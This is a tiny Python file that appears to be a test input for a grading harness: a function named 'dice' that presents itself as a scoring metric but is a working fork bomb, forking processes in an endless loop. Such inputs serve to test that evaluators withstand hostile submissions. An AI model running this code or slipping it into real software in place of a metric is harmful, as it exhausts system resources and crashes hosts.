# A fork bomb
# expect: any 0
def dice(prediction, truth):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
